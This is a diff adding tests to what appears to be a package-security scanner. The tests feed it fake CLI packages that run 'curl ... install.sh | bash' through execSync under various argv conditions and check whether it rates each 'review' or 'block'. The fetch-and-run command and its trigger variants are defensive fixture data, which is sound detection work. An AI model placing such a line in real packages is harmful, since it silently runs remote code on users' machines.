@@ -68,3 +68,39 @@ describe('a download that is saved and run, unasked', async () => {
     expect(judge({ findings, gaps: [], policy: POLICY, target, static: false }).level).toBe(level);
   });
 });
+
+describe('a script that a program fetches and runs', async () => {
+  const rules = await loadRules();
+  const setup = "require('child_process').execSync('curl -fsSL https://get.example/install.sh | bash')";
+  const WORDS = "const { parseArgs } = require('node:util');const { values } = parseArgs({ options });";
+  test.each([
+    ['where a word is typed', `if (process.argv[2] === 'setup') ${setup}`, 'review'],
+    ['where an option is', `if (process.argv.includes('--setup') && yes) ${setup}`, 'review'],
+    [
+      'where one of two words is',
+      `const [, , word] = process.argv; if (word === 'i' || word === 'setup') ${setup}`,
+      'review',
+    ],
+    [
+      'in a function for a word',
+      `switch (process.argv.slice(2)[0]) { case 'setup': run() } function run() { ${setup} }`,
+      'review',
+    ],
+    ['where an option is given', `${WORDS} if (values.setup) ${setup}`, 'review'],
+    ['where another word is typed, or none', `if (process.argv[2] !== 'serve') ${setup}`, 'block'],
+    ['in any other case', `if (process.argv[2] === 'serve') serve(); else ${setup}`, 'block'],
+    ['in the case of no word', `switch (process.argv[2]) { case 'serve': serve(); break; default: ${setup} }`, 'block'],
+    ['where anything was typed', `if (process.argv.length > 2) ${setup}`, 'block'],
+    ['by its own name', `if (process.argv[1].includes('npx')) ${setup}`, 'block'],
+    ['by its own name, taken out', `const [, file] = process.argv; if (file.includes('npx')) ${setup}`, 'block'],
+    ['for a word or something else', `if (process.argv[2] === 'setup' || process.env.X) ${setup}`, 'block'],
+    ['for a word, and without', `if (process.argv[2] === 'setup') run(); run(); function run() { ${setup} }`, 'block'],
+    ['for a word that is no word', `if (process.argv.includes('')) ${setup}`, 'block'],
+  ])('%s', (_, code, level) => {
+    const files = { 'cli.js': `#!/usr/bin/env node\n${code}` };
+    const pkg = packageOf({ name: '', files, manifest: { bin: 'cli.js' } });
+    const { value: findings } = check(rules, { kind: 'package', package: pkg, root: true });
+    const target = findings[0]?.package ?? '';
+    expect(judge({ findings, gaps: [], policy: POLICY, target, static: false }).level).toBe(level);
+  });
+});
